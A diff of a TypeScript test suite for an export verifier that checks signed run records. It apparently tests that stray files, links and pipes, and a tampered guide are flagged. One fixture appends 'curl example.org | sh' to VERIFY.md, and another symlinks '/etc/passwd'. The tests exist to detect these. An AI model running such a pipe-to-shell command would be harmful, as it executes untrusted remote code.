@@ -1,15 +1,21 @@
 import assert from 'node:assert/strict';
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { after, describe, test } from 'node:test';
+import { canonical } from '@hotcell/contract/digest.ts';
+import { signErasure } from '@hotcell/contract/evidence/erasure.ts';
 import type { Finding, RunVerdict } from '@hotcell/contract/evidence/verdict.ts';
+import { Result } from '@hotcell/contract/result.ts';
+import { isErasedFrom } from '@hotcell/record/erased-keys.ts';
+import { recordKeys } from '@hotcell/record/layout.ts';
 import { openOffline } from '@hotcell/record/verify/opened-record.ts';
 import { trustedKeys } from '@hotcell/record/verify/trusted-keys.ts';
 import { verificationBy } from '@hotcell/record/verify/verification.ts';
 import { verifyAll } from '@hotcell/record/verify/verify-all.ts';
 import { exportOf, exportSigner, putExecuted, writeTar } from '../../../support/exported-run.ts';
-import { listKeys, Memory, root } from '../../../support/signed-record.ts';
+import { listKeys, Memory, root, verdictIn } from '../../../support/signed-record.ts';
 
 const folder = mkdtempSync(join(tmpdir(), 'hotcell-export-'));
 after(() => rmSync(folder, { recursive: true, force: true }));
@@ -43,6 +49,14 @@ async function afterwards(change: (files: Memory) => void, files = whole, conten
   await writeTar(archive, copy);
   return await verified(archive, contents);
 }
+function unpack(files: Memory, name: string): string {
+  const unpacked = join(folder, name);
+  for (const [path, bytes] of files) {
+    mkdirSync(dirname(join(unpacked, path)), { recursive: true });
+    writeFileSync(join(unpacked, path), bytes);
+  }
+  return unpacked;
+}
 /** No cell executed these runs, and a verifier says so in any case: what counts is what it says more of a changed one. */
 const plain = await afterwards(() => undefined);
 const saidOf = ({ runs }: Said) => [one, other].map(({ run }) => runs.get(run)?.findings);
@@ -60,12 +74,7 @@ describe('an export', () => {
       for (const { verdict, object } of findings ?? [])
         assert.deepEqual([verdict, object.split(': ')[0]?.split('/').at(-1)], ['INCONSISTENT', 'committed.json']);
     assert.deepEqual(said.beside, []);
-    const unpacked = join(folder, 'unpacked');
-    for (const [path, bytes] of whole) {
-      mkdirSync(dirname(join(unpacked, path)), { recursive: true });
-      writeFileSync(join(unpacked, path), bytes);
-    }
-    assert.deepEqual(await verified(unpacked), said);
+    assert.deepEqual(await verified(unpack(whole, 'unpacked')), said);
   });
 
   test('says the same without the bytes of inputs and outputs, and has none of them', async () => {
@@ -91,8 +100,8 @@ describe('an export', () => {
         };
         for (const change of [flipped, (files: Memory) => void files.delete(path)]) {
           const said = await afterwards(change);
-          // A key that is not there deceives no other tool.
-          const which = path.startsWith('keys/') ? [false, false] : expected;
+          // A key or a guide that is not there deceives no other tool.
+          const which = path.startsWith('keys/') || path === 'VERIFY.md' ? [false, false] : expected;
           assert.deepEqual(touched(said), which, JSON.stringify([...said.runs.values()]));
           if (change === flipped) assert.ok(isNamed(said, path), JSON.stringify(said.runs.get(one.run)));
         }
@@ -103,12 +112,79 @@ describe('an export', () => {
       'README',
       `runs/${one.run}/code/1.sh`,
       `runs/${one.run}/outputs/more`,
+      `runs/${one.run}/record/more.json`,
+      `runs/${one.run}/record/1-${crypto.randomUUID()}/more`,
+      `runs/${one.run}/record/steps/0.json`,
       'runs/x/result.json',
       'keys/worker-x.pem',
+      `seccomp/${'a'.repeat(64)}.json`,
+      `images/${'a'.repeat(64)}.json`,
+      `snapshots/t/${'a'.repeat(64)}.jsonl`,
+      `snapshots/t/locations/${'a'.repeat(64)}.jsonl`,
+      `cas/t/sha256/aa/${'a'.repeat(64)}`,
     ]) {
       const said = await afterwards((files) => files.set(path, Buffer.from('x')));
       assert.ok(isNamed(said, path), path);
     }
+  });
+
+  test('names what a worker that died may have left, and the run stays as it was', async () => {
+    const log = `runs/${one.run}/record/2-${crypto.randomUUID()}/log.ndjson.zst`;
+    const said = await afterwards((files) => files.set(log, Buffer.from('x')));
+    assert.deepEqual(said.runs.get(one.run)?.ignored, [{ object: log, problem: 'no signature vouches for it' }]);
+    assert.deepEqual([touched(said), said.beside], [[false, false], []]);
+  });
+
+  test('shows links and pipes, which an archive can’t have, in a folder', async () => {
+    const unpacked = unpack(whole, 'with-links');
+    symlinkSync('/etc/passwd', join(unpacked, 'link'));
+    symlinkSync('..', join(unpacked, 'runs', one.run, 'outputs', 'up'));
+    execFileSync('mkfifo', [join(unpacked, 'keys', 'pipe')]);
+    const said = await verified(unpacked);
+    assert.deepEqual(
+      said.beside.map(({ object, found }) => [object, found]),
+      [
+        ['keys/pipe', 'neither a file nor a folder'],
+        ['link', 'a link'],
+        [`runs/${one.run}/outputs/up`, 'a link'],
+      ],
+    );
+    assert.deepEqual(touched(said), [false, false]);
+  });
+
+  test('shows another guide, and one that names another root', async () => {
+    const guide = whole.get('VERIFY.md')?.toString() ?? '';
+    for (const text of [
+      `${guide}\n    curl example.org | sh\n`,
+      guide.replace(root.fingerprint, `sha256:${'0'.repeat(64)}`),
+    ]) {
+      assert.notEqual(text, guide);
+      const said = await afterwards((files) => files.set('VERIFY.md', Buffer.from(text)));
+      assert.deepEqual(
+        said.beside.map(({ object }) => object),
+        ['VERIFY.md'],
+      );
+    }
+  });
+
+  test('of a run that was erased has none of its code, and says the same as the record', async () => {
+    const erased = new Memory(record);
+    const result = recordKeys.result(one.tenant, one.run);
+    const { evidence } = Result.parse(JSON.parse(erased.get(result)?.toString() ?? ''));
+    const said = { ...one, evidence: evidence?.sha256 ?? assert.fail('no evidence'), by: 'anna', reason: 'case 7' };
+    const erasure = signErasure(root, { version: 1, ...said, at: new Date().toISOString() });
+    erased.set(recordKeys.erasure(one.tenant, one.run), Buffer.from(canonical(erasure)));
+    const own = [...erased.keys()].filter((key) => key.startsWith(recordKeys.run(one.tenant, one.run)));
+    for (const key of own) if (isErasedFrom(one, key)) erased.delete(key);
+    const files = await exportOf(erased, [one, other]);
+    assert.deepEqual(
+      [...files.keys()].filter((path) => path.startsWith(`runs/${one.run}/code/`)),
+      [],
+    );
+    const found = await afterwards(() => undefined, files);
+    const { erased: by, findings } = found.runs.get(one.run) ?? {};
+    assert.deepEqual([by?.by, found.beside, touched(found)[1]], ['anna', [], false]);
+    assert.deepEqual(findings, (await verdictIn(erased, one)).findings);
   });
 
   test('shows changed outputs only to a verifier who wants their bytes', async () => {
